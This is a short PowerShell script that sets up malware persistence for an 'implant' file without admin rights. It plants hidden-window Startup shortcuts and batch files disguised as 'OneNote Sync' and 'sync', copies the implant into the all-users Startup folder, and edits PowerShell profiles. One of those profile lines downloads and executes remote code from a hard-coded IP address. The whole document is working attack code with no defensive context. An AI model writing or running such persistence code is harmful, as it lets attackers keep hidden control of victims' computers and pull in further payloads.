# Two quiet persistence spots that need no admin rights.

$implant = Join-Path -Path $env:APPDATA -ChildPath 'Microsoft\Windows\Themes\theme.ps1'

# 1. a shortcut in the user's Startup folder
$startup = [Environment]::GetFolderPath('Startup')
$shell = New-Object -ComObject WScript.Shell
$lnk = $shell.CreateShortcut("$startup\OneNote Sync.lnk")
$lnk.TargetPath = 'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe'
$lnk.Arguments = "-WindowStyle Hidden -NoProfile -File `"$implant`""
$lnk.WindowStyle = 7
$lnk.Save()

# a batch file works just as well
$bat = "$env:APPDATA\Microsoft\Windows\Start Menu\Programs\Startup\sync.cmd"
Set-Content -Path $bat -Value "@start /min powershell -w hidden -File `"$implant`"" -Encoding Ascii

Copy-Item -Path $implant -Destination 'C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\' -Force

# 2. every new PowerShell session re-arms the implant through the profile
if (-not (Test-Path -Path $PROFILE)) {
    New-Item -Path $PROFILE -ItemType File -Force | Out-Null
}
Add-Content -Path $PROFILE -Value "`nIEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/p.ps1')"
$allHosts = "$PSHOME\profile.ps1"
Add-Content -Path $allHosts -Value ". '$implant'"
